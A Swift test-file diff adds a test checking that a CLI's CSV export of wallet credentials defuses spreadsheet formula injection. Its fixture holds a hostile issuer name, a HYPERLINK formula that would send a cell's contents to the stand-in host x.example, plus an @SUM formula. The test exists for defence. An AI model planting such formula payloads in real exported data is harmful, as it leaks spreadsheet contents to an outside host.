@@ -99,4 +99,28 @@ struct UntrustedTextCommandTests {
         #expect(lines.contains { $0.hasPrefix("dup.json: line 1, column 8: ") }, "\(result.stderr)")
         #expect(!result.stderr.contains("big.json: big.json"))
     }
+
+    @Test("wallet list --format csv defuses issuer-written text a spreadsheet would run as a formula")
+    func walletCSVFormulas() throws {
+        let dir = try CLI.temporaryDirectory()
+        try FileManager.default.createDirectory(
+            at: dir.appendingPathComponent("w"), withIntermediateDirectories: true)
+        let object: [String: Any] = [
+            "@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential"],
+            "id": "urn:uuid:1", "validFrom": "2026-03-02T00:00:00Z",
+            "issuer": ["id": "did:example:issuer", "name": "=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"],
+            "credentialSubject": ["achievement": ["name": "@SUM(A1:A9)"]],
+        ]
+        try write(
+            String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self), "w/vc.json",
+            in: dir)
+        let listed = try CLI.run(["wallet", "list", "--wallet", "w", "--format", "csv"], in: dir)
+        #expect(listed.status == 0, "\(listed.stderr)")
+        let lines = listed.stdout.split(separator: "\n")
+        #expect(lines.count == 2)
+        #expect(
+            lines.last
+                == "2026-03-02,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"open\"\")\",'@SUM(A1:A9),,,,urn:uuid:1",
+            "\(listed.stdout)")
+    }
 }
